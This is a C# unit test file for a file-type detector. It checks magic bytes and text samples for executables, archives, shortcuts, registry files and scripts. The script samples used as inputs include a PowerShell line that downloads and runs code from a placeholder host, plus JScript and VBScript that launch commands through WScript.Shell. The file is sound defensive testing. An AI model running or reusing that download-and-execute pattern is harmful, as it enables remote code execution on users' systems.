using System.Text;
using Sekisho.Inspection.Formats;
using Sekisho.SampleMaker;

namespace Sekisho.Inspection.Tests.Formats;

public class FileTypesTests
{
    [Theory]
    [InlineData("7F454C46020101", FileKind.UnixProgram)]
    [InlineData("CFFAEDFE07000001", FileKind.MacProgram)]
    [InlineData("FEEDFACE00000012", FileKind.MacProgram)]
    [InlineData("CAFEBABE00000002", FileKind.MacProgram)]
    [InlineData("CAFEBABE00000034", FileKind.JavaClass)]
    [InlineData("D0CF11E0A1B11AE1", FileKind.CompoundFile)]
    [InlineData("504B0304140000", FileKind.Zip)]
    [InlineData("526172211A0700", FileKind.Rar)]
    [InlineData("526172211A070100", FileKind.Rar)]
    [InlineData("377ABCAF271C0004", FileKind.SevenZip)]
    [InlineData("1F8B0808", FileKind.Gzip)]
    [InlineData("425A683931415926", FileKind.Bzip2)]
    [InlineData("FD377A585A0000", FileKind.Xz)]
    [InlineData("4D53434600000000", FileKind.Cab)]
    [InlineData("60EA2A001E07010B1002", FileKind.Unknown)]
    [InlineData("255044462D312E34", FileKind.Pdf)]
    [InlineData("7B5C727466317B", FileKind.Rtf)]
    [InlineData("7B5C7274FF00", FileKind.Rtf)]
    [InlineData("495453460300", FileKind.CompiledHelp)]
    [InlineData("789F3E2201", FileKind.Tnef)]
    [InlineData("4C0000000114020000000000C00000000000004601", FileKind.Shortcut)]
    [InlineData("E4525C7B8CD8A74DAEB15378D02996D3", FileKind.OneNote)]
    [InlineData("89504E470D0A1A0A", FileKind.Image)]
    [InlineData("FFD8FFE000104A46", FileKind.Image)]
    [InlineData("474946383961", FileKind.Image)]
    [InlineData("24002D6C68352D0000000000", FileKind.Unknown)]
    [InlineData("24002D6C68352D00000000000000", FileKind.Lzh)]
    [InlineData("0000000000000000002A2A4143452A2A", FileKind.Unknown)]
    [InlineData("000000000000002A2A4143452A2A0000", FileKind.Ace)]
    public void FixedOctets_Tell(string head, FileKind kind) => Assert.Equal(kind, FileTypes.Sniff(Convert.FromHexString(head)));

    [Theory]
    [InlineData("Dear Bob,\nMZ is how programs begin.", FileKind.Text)]
    [InlineData("MZ is how programs begin, says a letter that is much longer than the header of one would be.", FileKind.Text)]
    [InlineData("<?xml version=\"1.0\"?><PCSettings><SearchableContent xmlns=\"x\">", FileKind.ShellSettings)]
    [InlineData("<?xml version=\"1.0\"?><!-- <a> --><libraryDescription xmlns=\"x\">", FileKind.ShellSettings)]
    [InlineData("<searchConnectorDescription xmlns=\"x\">", FileKind.ShellSettings)]
    [InlineData("<?xml version=\"1.0\"?>\n<MMC_ConsoleFile ConsoleVersion=\"3.0\">", FileKind.ShellSettings)]
    [InlineData("<jnlp spec=\"1.0+\">", FileKind.ShellSettings)]
    [InlineData("<help><jnlp is an element/></help>", FileKind.Xml)]
    [InlineData("[Shell]\r\nCommand=2\r\nIconFile=x", FileKind.ShellSettings)]
    [InlineData("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\x]", FileKind.RegistryEntries)]
    [InlineData("REGEDIT4\r\n[HKEY_CURRENT_USER\\x]", FileKind.RegistryEntries)]
    [InlineData("#@~^RQAAAA==-mD", FileKind.EncodedScript)]
    [InlineData("<!DOCTYPE html><html></html>", FileKind.Html)]
    [InlineData("  \r\n<HTML><body>", FileKind.Html)]
    [InlineData("<?xml version=\"1.0\"?><a/>", FileKind.Xml)]
    [InlineData("<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?><w:wordDocument/>", FileKind.WordXml)]
    [InlineData("<svg xmlns=\"http://www.w3.org/2000/svg\"/>", FileKind.Svg)]
    [InlineData("<html><hta:application id=x>", FileKind.HtmlApplication)]
    [InlineData("<job><script language=\"JScript\">x()</script></job>", FileKind.WindowsScript)]
    [InlineData("<?XML version=\"1.0\"?><scriptlet><registration/></scriptlet>", FileKind.WindowsScript)]
    [InlineData("#@~^EAAAAA==zzz", FileKind.EncodedScript)]
    [InlineData("[InternetShortcut]\r\nURL=http://x.test/", FileKind.InternetShortcut)]
    [InlineData("WEB\r\n1\r\nhttp://x.test/", FileKind.WebQuery)]
    [InlineData("ID;PWXL;N;E\r\n", FileKind.SymbolicLink)]
    [InlineData("Received: from x\r\nFrom: a@b.test\r\n\r\nhi", FileKind.Mail)]
    [InlineData("@echo off\r\ndel x", FileKind.BatchFile)]
    [InlineData("var s = new ActiveXObject(\"WScript.Shell\");\nvar f = function() { s.Run(\"x\"); };\nf();", FileKind.JavaScript)]
    [InlineData("Dim s\nSet s = CreateObject(\"WScript.Shell\")\ns.Run(\"x\")\nWScript.Quit", FileKind.VbScript)]
    [InlineData("$c = New-Object System.Net.WebClient\nInvoke-Expression $c.DownloadString('http://x.test')", FileKind.PowerShell)]
    [InlineData("#!/bin/sh\nls", FileKind.ShellScript)]
    [InlineData("To whom it may concern: the function of the liver is new to us; let us see.", FileKind.Text)]
    public void Text_IsTold(string text, FileKind kind) => Assert.Equal(kind, FileTypes.Sniff(Encoding.UTF8.GetBytes(text)));

    [Fact]
    public void Utf16Script_IsTold() =>
        Assert.Equal(FileKind.BatchFile, FileTypes.Sniff([0xFF, 0xFE, .. Encoding.Unicode.GetBytes("@echo off\r\n")]));

    [Fact]
    public void Utf16XmlWithoutAMark_IsTold() =>
        Assert.Equal(FileKind.WordXml, FileTypes.Sniff(Encoding.BigEndianUnicode.GetBytes("<?xml version=\"1.0\" encoding=\"utf-16\"?><?mso-application progid=\"Word.Document\"?>")));

    [Fact]
    public void Program_IsToldByItsHeader() => Assert.Equal(FileKind.WindowsProgram, FileTypes.Sniff(Samples.Program()));

    [Fact]
    public void DiscImageAndTar_AreToldByWhatStandsFarIn()
    {
        var disc = new byte[FileTypes.HeadLength];
        "CD001"u8.CopyTo(disc.AsSpan(0x8001));
        var tar = new byte[1024];
        "ustar"u8.CopyTo(tar.AsSpan(257));
        tar[0] = (byte)'a';

        Assert.Equal(FileKind.Iso, FileTypes.Sniff(disc));
        Assert.Equal(FileKind.Tar, FileTypes.Sniff(tar));
        Assert.Equal(FileKind.Empty, FileTypes.Sniff([]));
    }

    [Fact]
    public void PdfBehindRubbish_IsAPdf() => Assert.Equal(FileKind.Pdf, FileTypes.Sniff([0, 1, 2, .. "%PDF-1.7"u8]));
}
